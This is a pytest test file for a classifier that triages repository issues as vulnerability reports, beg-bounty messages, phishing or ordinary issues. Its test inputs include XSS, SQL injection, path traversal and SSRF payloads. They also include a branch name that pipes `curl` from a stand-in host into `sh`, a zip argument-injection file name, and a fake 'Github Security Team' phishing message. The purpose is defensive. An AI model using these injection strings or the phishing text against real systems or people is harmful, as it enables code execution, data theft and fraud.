"""Behaviour of the pure report classifier (bot/rules/detect.py)."""

import io
import json
from pathlib import Path

import pytest

from bot.rules.detect import (MAX_BODY_CHARS, MAX_TOTAL_CHARS, MAX_WINDOWS, REASON_NAMES, Thresholds, Verdict, classify,
                               classify_stream, is_reason, windows)

CORPUS = Path(__file__).parent / "corpus" / "issues.jsonl"
DEV = Path(__file__).parent / "corpus" / "dev.jsonl"


def _rows(path=CORPUS):
    return [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines() if line.strip()]


# --- positives, per class and language ------------------------------------------------------

@pytest.mark.parametrize("title, body", [
    ("Stored XSS in wiki page titles", "Titles are rendered unescaped; `<img src=x onerror=alert(1)>` runs for every visitor."),
    ("SQL injection in ?order= parameter", "The value is concatenated into ORDER BY. An unauthenticated attacker can dump the users table."),
    ("Path traversal in /files endpoint", "`GET /files?name=../../../../etc/passwd` returns the system file."),
    ("SSRF through avatar URL import", "The server fetches any URL, including http://169.254.169.254/latest/meta-data/."),
    ("Unsafe deserialization of job payloads", "Jobs are loaded with pickle.loads from a queue any tenant can write to: remote code execution."),
    ("ReDoS in the slug validator", "Catastrophic backtracking: 50 characters block a worker for minutes."),
    ("Auth bypass: admin API accepts requests without a session", "Routes under /Admin skip the check, so anyone can list users."),
    ("Heap buffer overflow in TIFF decoder", "A crafted file from an attacker overflows the tile buffer (ASan heap-buffer-overflow)."),
    ("API tokens are logged in plain text", "With debug logging the Authorization header is logged, so anyone with log access gets tokens."),
])
def test_reports_of_security_weaknesses_in_this_project_are_vulnerabilities(title, body):
    assert classify(title, body).kind == "vulnerability"


@pytest.mark.parametrize("lang, title, body", [
    ("es", "Vulnerabilidad: inyección SQL en el filtro de fechas", "Un atacante puede leer toda la base de datos con `' OR '1'='1`."),
    ("pt", "Vulnerabilidade de XSS armazenado no perfil", "Um atacante salva `<script>` no nome e o código executa para quem abrir o perfil."),
    ("fr", "Faille de sécurité : exécution de code à distance via les modèles", "Un attaquant peut exécuter du code arbitraire sur le serveur."),
    ("de", "Sicherheitslücke: Pfad-Traversal im Download", "Angreifer können mit `../../etc/passwd` beliebige Dateien lesen."),
    ("zh", "安全漏洞：导入功能可执行任意代码", "攻击者上传构造的文件即可在服务器上执行任意代码。"),
    ("ru", "Уязвимость: удалённое выполнение кода через импорт", "Злоумышленник может выполнить произвольный код на сервере."),
    ("ja", "脆弱性: 検索機能のSQLインジェクション", "攻撃者は認証なしで全ユーザーのデータを取得できます。"),
])
def test_vulnerability_reports_are_recognised_in_seven_languages(lang, title, body):
    verdict = classify(title, body)
    assert verdict.kind == "vulnerability"
    assert f"lang:{lang}" in verdict.reasons


def test_real_vulnerability_that_asks_about_a_bounty_stays_a_vulnerability():
    v = classify("RCE in the import endpoint - do you pay bounties?",
                 "The archive's hook script is executed with shell=True: an attacker gets remote code execution. Is there a reward?")
    assert v.kind == "vulnerability"
    assert "payment-ask" in v.reasons


# --- beg bounty ----------------------------------------------------------------------------

@pytest.mark.parametrize("title, body", [
    ("Missing security headers on your website", "X-Frame-Options and HSTS are missing. Do you offer a bug bounty?"),
    ("No DMARC record", "Your domain has no DMARC record so emails can be spoofed. Waiting for my reward."),
    ("Clickjacking on the landing page", "The homepage can be loaded in an iframe. Is this eligible for a bounty?"),
    ("Self-XSS in search box", "Pasting a script into my own search box runs it in my browser."),
    ("Server version disclosure", "The Server header shows nginx/1.18.0. Please tell me about the reward."),
])
def test_generic_scanner_findings_with_payment_asks_are_beg_bounty(title, body):
    assert classify(title, body).kind == "beg_bounty"


@pytest.mark.parametrize("title, body", [
    ("PayPal checkout fails with a security token error", "After 4.2 the payment step shows 'security token expired' and the order stays unpaid. Steps: add an item, pay with PayPal."),
    ("Paid plan users see the free tier limits", "Since the billing migration our paid accounts get the free quotas; the payment went through on our side."),
    ("FTP directory listing shows the wrong year", "Files older than six months show this year's date in the listing."),
    ("autocomplete=\"off\" is ignored on the search form", "The browser still offers suggestions in the search box."),
    ("Loyalty reward points not added after payment", "Points stay at 0 after the order is paid with a test card."),
])
def test_money_words_and_feature_names_in_ordinary_issues_are_not_beg_bounty(title, body):
    """Pay, paid, payment, PayPal, reward points, a directory listing, autocomplete=off: ordinary
    words of ordinary issues; a public beg-bounty reply to them would be a public false alarm."""
    assert classify(title, body).kind != "beg_bounty"


@pytest.mark.parametrize("title, body", [
    ("Vulnerability report", "I found an XSS on your website. Please tell me how much you pay for valid bugs, my paypal: hunter@example.com"),
    ("Security issue", "Directory listing is enabled on your site at /backup/. Do you offer any appreciation for reports?"),
    ("Bug", "The login form allows password autocomplete. Will I get paid for this finding?"),
])
def test_asks_for_payment_in_their_usual_shapes_are_still_beg_bounty(title, body):
    assert classify(title, body).kind == "beg_bounty"


# --- hard negatives ------------------------------------------------------------------------

def test_dependency_bump_citing_third_party_cve_is_not_a_report():
    v = classify("Bump lodash from 4.17.20 to 4.17.21",
                 "Fixes CVE-2021-23337 (command injection in lodash `template`). "
                 "See https://nvd.nist.gov/vuln/detail/CVE-2021-23337\n\nSigned-off-by: dependabot[bot]")
    assert v.kind == "none"
    assert "negative:dependency-bump" in v.reasons


def test_ordinary_segfault_with_stack_trace_in_code_block_is_not_a_report():
    body = "Opening an empty file crashes.\n\n```\nSegmentation fault (core dumped)\n#0 0x0000 in parse (buf=0x0) at src/parse.c:12\n```"
    assert classify("Segfault on empty input", body).kind == "none"


def test_stack_overflow_error_in_a_trace_is_not_a_memory_corruption_report():
    body = "```\nException in thread \"main\" java.lang.StackOverflowError\n\tat a.B.render(B.java:10)\n```"
    v = classify("Recursive template kills the renderer", body)
    # No weakness class and no claim: never public. (A heads-up on the learned score alone is the
    # notify threshold's call; this text sits at it since notify spends its false-alarm budget.)
    assert v.kind in ("none", "possible")
    assert not any(r.startswith(("vuln-term:", "plain:", "payload:")) for r in v.reasons)
    assert classify("Recursive template kills the renderer", body, model=False).kind == "none"


@pytest.mark.parametrize("title, body", [
    ("Add 2FA support", "It would be great to support TOTP two-factor authentication for admins."),
    ("Please support CSP nonces", "We use a strict Content-Security-Policy against XSS and the inline <script> is blocked."),
])
def test_requests_for_security_features_are_not_reports(title, body):
    assert classify(title, body).kind == "none"


@pytest.mark.parametrize("title, body", [
    ("How do I report a vulnerability?", "I may have found a security problem; is there a SECURITY.md or a private contact?"),
    ("Is there a security policy?", "Our review needs to know where vulnerabilities should be reported."),
])
def test_questions_about_the_security_policy_are_not_reports(title, body):
    assert classify(title, body).kind == "none"


def test_scanner_false_positive_reports_are_not_reports():
    v = classify("Trivy flags CVE-2023-44487 in the image",
                 "We don't use HTTP/2 so it's not exploitable here; a false positive for this image.")
    assert v.kind == "none"


@pytest.mark.parametrize("title, body", [
    ("Speedrun exploit lets players skip the boss fight", "Players exploit a clipping glitch in level 3."),
    ("Dependency injection fails for scoped services", "Injecting the repository service into a hosted worker throws."),
    ("Insulin injection reminder fires twice", "After DST the injection reminder repeats; patients may double the dosage."),
    ("Webhook payload missing installation field", "The JSON payload for ping events has no installation key."),
    ("Engine ignores bishop attack on long diagonal", "The chess engine's king safety eval misses the attack."),
])
def test_game_medical_and_engineering_vocabulary_is_not_a_report(title, body):
    assert classify(title, body).kind == "none"


def test_quoted_text_weighs_less_than_the_authors_own_words():
    quoted = classify("Question about the 3.2 changelog", "> Fixed a stored XSS that allowed an attacker to run JavaScript.\n\nDo we need to change config?")
    direct = classify("Stored XSS in comments", "An attacker can run JavaScript in other users' browsers.")
    assert quoted.kind == "none" and direct.kind == "vulnerability"
    assert quoted.score < direct.score


def test_template_comments_telling_people_not_to_report_here_are_ignored():
    body = "<!-- Please do NOT report security vulnerabilities here; see SECURITY.md -->\nThe sidebar collapses on resize."
    v = classify("Sidebar collapses", body)
    assert v.kind == "none"
    assert not any(r.startswith(("report:", "negative:policy")) for r in v.reasons)


# --- thresholds, reasons, limits -----------------------------------------------------------

def test_thresholds_are_per_repository_and_move_the_decision():
    title, body = "Datanode fails to start under the security manager", "Kerberos principal permissions are wrong in secure mode."
    assert classify(title, body).kind != "vulnerability"
    assert classify(title, body, Thresholds(public=0.99, notify=0.99)).kind == "none"
    assert classify(title, body, Thresholds(public=0.001, notify=0.001)).kind == "possible"  # no claim: never public
    assert classify("SQL injection in the search box", "", Thresholds(public=0.001, notify=0.001)).kind == "vulnerability"


def test_reasons_never_contain_input_text():
    canary = "zqxjcanary"
    title = f"XSS {canary} in {canary} page"
    body = (f"An attacker {canary} can inject <script>{canary}</script>; see https://{canary}.example/x. "
            f"Do you pay a bounty? {canary} ... [x](javascript:{canary})")
    rows = _rows() + _rows(DEV)
    for v in (classify(title, body), classify(canary, canary), *[classify(r["title"], r["body"]) for r in rows]):
        assert all(is_reason(r) for r in v.reasons), v.reasons
        assert not any(canary in r for r in v.reasons)


def test_reason_vocabulary_is_fixed_names_only():
    for name in REASON_NAMES:
        assert name.replace(":", "").replace("-", "").isalnum()


def test_verdict_is_frozen_and_score_is_a_probability():
    v = classify("Path traversal in downloads", "`../../etc/passwd` is returned to any visitor.")
    assert isinstance(v, Verdict) and 0.0 <= v.score <= 1.0
    with pytest.raises(AttributeError):
        v.kind = "none"  # type: ignore[misc]


def test_empty_and_missing_body_are_handled():
    assert classify("", None).kind == "none"
    assert classify("Typo in README", "").kind == "none"


def test_long_bodies_are_read_in_full_in_overlapping_windows():
    body = "lorem ipsum " * (MAX_BODY_CHARS // 4) + "\nAn attacker can get remote code execution through the import endpoint."
    assert len(body) > 2 * MAX_BODY_CHARS
    v = classify("Slow rendering", body)
    assert "windowed" in v.reasons and "truncated" not in v.reasons
    assert v.kind in ("vulnerability", "possible")  # the words past the first window are read
    assert classify("Slow rendering", "lorem ipsum " * (MAX_BODY_CHARS // 4)).kind == "none"


@pytest.mark.parametrize("size", [MAX_BODY_CHARS, MAX_BODY_CHARS + 1, 65_536, 400_000, MAX_TOTAL_CHARS, MAX_TOTAL_CHARS + 5])
def test_windows_cover_the_body_overlap_and_stay_few(size):
    body = "".join(f"line {i} of the log\n" for i in range(size // 10 + 10))[:size]
    parts = windows(body)
    assert 1 <= len(parts) <= MAX_WINDOWS
    assert "".join(parts[:1]) == body[:len(parts[0])]
    covered = body[:MAX_TOTAL_CHARS]
    pos = 0
    for part in parts:  # each window starts inside the previous one and they reach the end
        start = covered.index(part, max(0, pos - len(part)))
        assert start <= pos
        pos = start + len(part)
    assert pos == len(covered)
    if size > MAX_BODY_CHARS:
        assert all(len(a) + len(b) > len(covered[covered.index(a):covered.index(b) + len(b)]) for a, b in zip(parts, parts[1:]))


def test_a_megabyte_body_stays_cheap():
    import time
    body = ("The build log is long. " * 40 + "\n") * (MAX_TOTAL_CHARS // 900 + 1)
    t0 = time.perf_counter()
    v = classify("Build output", body)
    assert time.perf_counter() - t0 < 3.0  # ~0.25 s measured (bench/classify.py); generous for CI
    assert "truncated" in v.reasons and "windowed" in v.reasons


# --- the corpus gate -----------------------------------------------------------------------

def _rates(rows, kind):
    verdicts = [classify(r["title"], r["body"]).kind for r in rows]
    pos = [v for r, v in zip(rows, verdicts) if r["label"] == kind]
    none = [v for r, v in zip(rows, verdicts) if r["label"] == "none"]
    recall = sum(v == kind for v in pos) / len(pos)
    fpr_none = sum(v == kind for v in none) / len(none)
    predicted = [r["label"] for r, v in zip(rows, verdicts) if v == kind]
    precision = sum(lab == kind for lab in predicted) / max(1, len(predicted))
    return recall, fpr_none, precision


def test_corpus_is_large_and_balanced_enough():
    rows = _rows()
    labels = [r["label"] for r in rows]
    assert len(rows) >= 300
    assert labels.count("vulnerability") >= 110 and labels.count("beg_bounty") >= 40 and labels.count("none") >= 150
    assert len({r["id"] for r in rows}) == len(rows)


def test_corpus_gate_vulnerability_recall_and_false_positive_rate():
    recall, fpr, precision = _rates(_rows(), "vulnerability")
    assert recall >= 0.97, recall
    assert fpr <= 0.01, fpr
    assert precision >= 0.97, precision


def test_corpus_gate_beg_bounty_recall_and_false_positive_rate():
    recall, fpr, precision = _rates(_rows(), "beg_bounty")
    assert recall >= 0.95, recall
    assert fpr <= 0.01, fpr
    assert precision >= 0.95, precision


def test_dev_corpus_is_large_and_separate():
    rows = _rows(DEV)
    labels = [r["label"] for r in rows]
    assert len(rows) >= 150
    assert labels.count("vulnerability") >= 100 and labels.count("none") >= 80
    assert len({r["id"] for r in rows}) == len(rows)
    assert not {r["id"] for r in rows} & {r["id"] for r in _rows()}


def test_dev_gate_plain_language_and_non_english_reports():
    # dev.jsonl: plain-language and non-English reports plus hard negatives in the same register.
    # It was used for development, so these are training figures too; gates sit a little below.
    recall, fpr, precision = _rates(_rows(DEV), "vulnerability")
    assert recall >= 0.95, recall
    assert fpr <= 0.02, fpr
    assert precision >= 0.97, precision


@pytest.mark.parametrize("title, body", [
    ("Any logged-in user can see other customers' invoices", "Changing the number in /invoices/1043 to 1042 shows someone else's invoice."),
    ("Session cookie still works after logout", "I replayed a request with the old cookie after logging out and it still returns my dashboard."),
    ("Webhook signatures aren't checked", "The handler never verifies the signature header, so anyone can post fake payment events."),
    ("Avatar URL makes the server fetch internal addresses", "Giving http://169.254.169.254/latest/meta-data/ as avatar shows the instance metadata."),
    ("/actuator/env is open without login", "It answers without any session and lists the database password in clear."),
    ("The CLI writes the token to a world-readable temp file", "The file is created with mode 0644 so every other account on the box can read it."),
])
def test_plain_language_reports_are_vulnerabilities(title, body):
    v = classify(title, body)
    assert v.kind == "vulnerability"
    assert any(r.startswith("plain:") for r in v.reasons)


@pytest.mark.parametrize("lang, title, body", [
    ("it", "Qualsiasi utente può vedere i documenti degli altri cambiando l'ID nell'URL", "Nessun controllo sul proprietario."),
    ("nl", "Iedere ingelogde gebruiker kan de facturen van andere klanten zien", "Door het nummer te veranderen zie je een andere klant."),
    ("ko", "URL의 번호만 바꾸면 다른 사용자의 주문 내역을 볼 수 있습니다", "소유자 확인이 없습니다."),
])
def test_plain_reports_in_more_languages(lang, title, body):
    v = classify(title, body)
    assert v.kind == "vulnerability"
    assert f"lang:{lang}" in v.reasons


@pytest.mark.parametrize("title, body", [
    ("I can't see other users' posts in the feed", "Since 4.2 other users' posts don't appear even though I follow them."),
    ("I can't log in after changing my password", "I probably mistyped it. How do I reset it?"),
    ("Container can't reach 169.254.169.254 for the IAM role", "The app can't get credentials from the metadata service in Docker. How should I configure it?"),
    ("Anyone can register on our internal instance - how to turn off signups?", "Is there a setting to disable open registration?"),
    ("Valid webhooks rejected with 'invalid signature'", "Since we changed our secret, all deliveries are rejected with 'invalid signature'."),
])
def test_plain_support_requests_are_not_reports(title, body):
    assert classify(title, body).kind == "none"


# --- classify_stream -----------------------------------------------------------------------

def test_classify_stream_preserves_order_and_reports_bad_lines_without_echoing_them():
    secret = "s3cr3t-text"
    lines = [
        json.dumps({"title": "SQL injection in search", "body": "An attacker can dump the DB with ' OR '1'='1"}),
        "{not json " + secret,
        json.dumps({"title": "Typo in docs"}),
        json.dumps({"title": "Dark mode", "body": None}),
        json.dumps([secret]),
        "",
        json.dumps({"title": 3, "body": secret}),
        json.dumps({"title": "Missing X-Frame-Options on your website", "body": "Is there a bug bounty?"}),
    ]
    out = io.StringIO()
    bad = classify_stream((line + "\n" for line in lines), out)
    results = [json.loads(line) for line in out.getvalue().splitlines()]
    assert bad == 5
    assert len(results) == len(lines)
    assert [r.get("verdict") for r in results] == ["vulnerability", None, None, "none", None, None, None, "beg_bounty"]
    assert all("error" in results[i] for i in (1, 2, 4, 5, 6))
    assert secret not in out.getvalue()
    assert "line 2" in results[1]["error"]
    assert set(results[0]) == {"verdict", "score", "reasons"}


def test_classify_stream_applies_thresholds():
    line = json.dumps({"title": "Test fails under the security manager", "body": "AccessControlException reading a property."})
    loose, strict = io.StringIO(), io.StringIO()
    classify_stream([line], loose, Thresholds(public=0.001, notify=0.001))
    classify_stream([line], strict, Thresholds(public=0.99, notify=0.99))
    assert json.loads(loose.getvalue())["verdict"] == "possible"  # topic words only: at most a heads-up
    assert json.loads(strict.getvalue())["verdict"] == "none"


def test_classifies_a_batch_of_issues_without_error():
    # A sanity check that many texts go through; speed is measured in bench/classify.py, not here.
    rows = _rows() * 3
    assert len([classify(r["title"], r["body"]) for r in rows]) == len(rows)


def test_held_out_corpus_stays_above_what_it_reached() -> None:
    """The blind holdout (tests/corpus/HOLDOUT.md) measures generalisation; it is never tuned on.

    Figures reached when it was first measured after the plain-language work: vulnerability
    recall 0.82, false alarms on ordinary issues 1 in 68, beg-bounty recall 0.77. The gate sits a
    little below, so a change that makes the classifier worse on unseen reports fails here.
    """
    from pathlib import Path

    rows = [json.loads(line) for line in (Path(__file__).parent / "corpus" / "holdout.jsonl").open()]
    kinds = [(r["label"], classify(r["title"], r["body"]).kind) for r in rows]
    vulns = [k for label, k in kinds if label == "vulnerability"]
    begs = [k for label, k in kinds if label == "beg_bounty"]
    ordinary = [k for label, k in kinds if label == "none"]
    assert sum(k == "vulnerability" for k in vulns) / len(vulns) >= 0.78
    assert sum(k == "beg_bounty" for k in begs) / len(begs) >= 0.73
    # Since the two tiers (issue 16), a `possible` is a private heads-up, not a public false alarm;
    # measured then: public recall 0.875, heads-up recall 0.98, heads-up false alarms 2 in 68.
    assert sum(k not in ("none", "possible", "status_ping") for k in ordinary) / len(ordinary) <= 0.03
    assert sum(k in ("vulnerability", "possible") for k in vulns) / len(vulns) >= 0.94
    assert sum(k in ("vulnerability", "possible") for k in ordinary) / len(ordinary) <= 0.06


# --- the learned model ---------------------------------------------------------------------

def test_the_shipped_model_is_small_loads_fast_and_gives_the_default_thresholds():
    import time

    from bot.rules import learned
    from bot.rules.config import RepoConfig  # noqa: F401  (the schema reads Thresholds() for its defaults)

    data = learned.WEIGHTS_PATH.read_bytes()
    assert len(data) <= 2 * 1024 * 1024
    t0 = time.perf_counter()
    model = learned.decode(data)
    assert time.perf_counter() - t0 < 0.2
    chosen = model.meta["thresholds"]
    assert (Thresholds().public, Thresholds().notify) == (chosen["public"], chosen["notify"])  # retrain => update


def test_the_weights_file_is_package_data():
    text = (Path(__file__).parent.parent / "pyproject.toml").read_text(encoding="utf-8")
    assert '"rules/detector.bin"' in text


def test_features_are_bounded_and_hashing_is_stable():
    from bot.rules import learned

    long_text = " ".join(f"word{i} other{i}" for i in range(50_000))
    feats = learned.hashed("title " * 500, long_text)
    assert len(feats) <= 4 * (learned.MAX_TOKENS + learned.MAX_TITLE_TOKENS + 1)
    assert learned.hashed("XSS in wiki", "An attacker runs script") == learned.hashed("XSS in wiki", "An attacker runs script")
    assert all(0 <= h < 1 << learned.NBITS for h in feats)


def test_classify_is_deterministic_and_the_learned_reason_is_a_number():
    title, body = "JWT verify() trusts the alg header", "HS256 tokens signed with the public key are accepted."
    a, b = classify(title, body), classify(title, body)
    assert a == b
    assert a.reasons[0].startswith("learned:") and is_reason(a.reasons[0])
    assert not is_reason("learned:" + title)


def test_the_rules_alone_are_the_benchmark_yardstick():
    v = classify("Stored XSS in wiki page titles", "Titles are rendered unescaped.", model=False)
    assert not any(r.startswith("learned:") for r in v.reasons)


def test_topic_words_alone_never_reach_the_public_tier():
    title, body = "Datanode fails to start under the security manager", "Kerberos principal permissions are wrong in secure mode."
    for th in (Thresholds(), Thresholds(public=0.05, notify=0.01), Thresholds(public=0.05, notify=0.05)):
        v = classify(title, body, th)
        assert v.kind != "vulnerability" and v.score < th.public or v.score == th.notify == th.public
        assert v.kind in ("possible", "none")


@pytest.mark.slow
def test_training_twice_gives_the_shipped_file():
    import subprocess
    import sys

    root = Path(__file__).parent.parent
    farsec = root.parent / "shared" / "data" / "farsec"
    if not farsec.exists():
        pytest.skip("FARSEC data not beside the project")
    out = subprocess.run([sys.executable, str(root / "scripts" / "train_detector.py"), "--check", "--farsec", str(farsec)],
                         capture_output=True, text=True, timeout=600)
    assert out.returncode == 0, out.stdout[-2000:] + out.stderr[-2000:]
    assert "OK" in out.stdout


# --- held-out-style cases (written for this test, not in any training file) -------------------

@pytest.mark.parametrize("title, body", [
    ("Signature check and data read use different elements", "The verifier checks the signed element by id, but the parser reads the user's email from the first element with that tag name. Injecting a second unsigned element changes who logs in."),
    ("Workflow echoes the PR branch name in a shell step", "`run: echo ${{ github.head_ref }}` in ci.yml: a branch named `a;curl${IFS}x.example|sh` runs commands with the repository token."),
    ("Uploaded file names reach the zip command", "The archive feature runs `zip out.zip <names>`; a file called `-TmTT=sh -c id` makes zip run a command on the server."),
    ("Qualquer um consegue apagar projetos de outra organização", "A rota DELETE /api/projetos/{id} não verifica a organização: com uma conta comum apaguei um projeto de teste de outra organização."),
])
def test_reports_without_a_class_keyword_reach_at_least_the_heads_up(title, body):
    assert classify(title, body).kind in ("vulnerability", "possible")


@pytest.mark.parametrize("title, body", [
    ("", "Thanks, fixed in 1.4.2 and the advisory is published; closing. Please use private reporting next time."),
    ("Question about the CVE in our HTTP library", "Our scanner lists CVE-2023-44487 for a dependency. Do we need to do anything, or is the default config unaffected?"),
    ("Deliberately vulnerable lab: level 2 payload doesn't work", "In this intentionally insecure training app the XSS level 2 should accept `<img onerror>`, but the page shows it escaped."),
    ("Bump jinja2 from 3.1.2 to 3.1.3", "Bumps jinja2. Fixes GHSA-h5c8-rqwp-cp95 (xmlattr XSS). Dependabot will rebase this PR."),
])
def test_texts_that_mention_a_weakness_without_reporting_one_are_not_redirected(title, body):
    assert classify(title, body).kind != "vulnerability"


# --- phishing and status pings --------------------------------------------------------------

GITHUB_SCANNER_WAVE = (
    "Security Vulnerability Detected in Your Repository",
    "Hey there!\n\nWe have detected a security vulnerability in your repository. Please contact us at "
    "[https://github-scanner.com](https://github-scanner.com) to get more information on how to fix this issue.\n\n"
    "Best regards,\nGithub Security Team\n\n@alice @bob @carol @dave @erin @frank",
)


def test_the_2024_github_scanner_phishing_wave_is_phishing():
    v = classify(*GITHUB_SCANNER_WAVE)
    assert v.kind == "phishing"
    assert {"phishing:alert-wording", "phishing:external-link", "phishing:mass-mentions"} <= set(v.reasons)


def test_phishing_is_never_said_of_people_with_write_access_or_of_ordinary_issues():
    from bot.rules.detect import TextContext

    assert classify(*GITHUB_SCANNER_WAVE, context=TextContext(author_association="MEMBER")).kind != "phishing"
    rows = _rows() + _rows(DEV)
    assert not [r["id"] for r in rows if classify(r["title"], r["body"]).kind == "phishing"]
    # a real alert that links to GitHub itself is not phishing
    assert classify("Security alert from Dependabot", "We detected a vulnerability in your repository: see "
                    "https://github.com/acme/app/security/dependabot/3 @a @b @c. Urgent: fix within 24 hours.").kind != "phishing"


@pytest.mark.parametrize("title, body", [
    ("", "Any update on my report from last week? I sent it through the private form."),
    ("Please enable private vulnerability reporting", "I'd like to report something privately; could you enable private vulnerability reporting?"),
])
def test_status_pings_are_recognised(title, body):
    assert classify(title, body).kind == "status_ping"


def test_a_follow_up_that_describes_the_weakness_is_a_report_not_a_ping():
    v = classify("", "Any update on my report? To recap: the /export endpoint returns every customer's data to anyone without logging in.")
    assert v.kind != "status_ping"


# A stranger's issue body must not buy unbounded CPU (issue 16's round added `\d+ цифр`, which
# tried every start in a run of digits: 8.4 s on 65,530 digits). Each branch of every signal, on
# long runs of what repeats in real and hostile texts; a linear branch takes well under a
# millisecond here, a quadratic one seconds.
_RUNS = {"digits": "7" * 20_000, "letters": "a" * 20_000, "spaces": " " * 20_000, "dots": "." * 20_000,
         "newlines": "\n" * 20_000, "semicolons": "; " * 10_000, "words": "ab1 " * 5_000, "slashes": "../" * 7_000,
         "hangul": "자" * 20_000, "cjk": "位" * 20_000, "digits and cjk": ("1" * 500 + "位자") * 40}


def test_no_signal_branch_is_super_linear_on_long_runs() -> None:
    import time

    from bot.rules import detect

    slow = []
    for sig in detect._ALL_SIGNALS:
        for _, _, branch in sig.parts:
            for name, text in _RUNS.items():
                t0 = time.perf_counter()
                branch.search(text)
                if time.perf_counter() - t0 > 0.25:
                    slow.append((sig.name, name, branch.pattern[:60]))
    assert not slow, slow


def test_a_hostile_body_of_github_s_largest_size_is_classified_in_bounded_time() -> None:
    import time

    for text in ("1" * 65_536, ("1" * 1000 + "位") * 65, "a1 " * 21_845, "<!--" * 16_384, "[ ]" * 21_845):
        t0 = time.perf_counter()
        classify("x", text)
        assert time.perf_counter() - t0 < 3.0  # (about 15 ms here; seconds to minutes when a branch backtracks)


def test_a_body_that_repeats_a_signal_s_literal_costs_linear_time() -> None:
    """One long word made of a literal over and over ("uploaduploadupload..."): a branch such as
    ``upload\\w*[^.\\n]{0,80}?...`` used to rescan the rest of the word at each repeat (30 s for
    8 KB). The rules read at most MAX_WORD characters of a word, so each repeat costs a bounded
    scan. Every literal of every signal, as one word and as words, through the rules' own path."""
    import time

    from bot.rules import detect

    slow, seen = [], set()
    for sig in detect._ALL_SIGNALS:
        for _, literal, _ in sig.parts:
            word = literal.strip()
            if not word or word in seen:
                continue
            seen.add(word)
            for text in ((word * (4000 // len(word) + 1))[:4000], ((word + " ") * (4000 // (len(word) + 1) + 1))[:4000]):
                t0 = time.perf_counter()
                normal = detect._normalise(text)
                detect._word_hits(normal)
                detect._payload_hits(normal)
                if time.perf_counter() - t0 > 0.25:
                    slow.append((sig.name, word))
    assert not slow, slow
    t0 = time.perf_counter()
    classify("x", "upload" * 10_922)  # (65,532 characters: 4 windows)
    assert time.perf_counter() - t0 < 3.0


def test_the_rules_read_a_very_long_word_by_its_start() -> None:
    from bot.rules import detect

    assert detect._normalise("A" * 100 + " b") == "a" * detect.MAX_WORD + " b"
    assert detect._normalise("é" * 100) == "é" * detect.MAX_WORD  # (the non-ASCII path too)
    assert detect._normalise("Ordinary words, kept as they are") == "ordinary words, kept as they are"
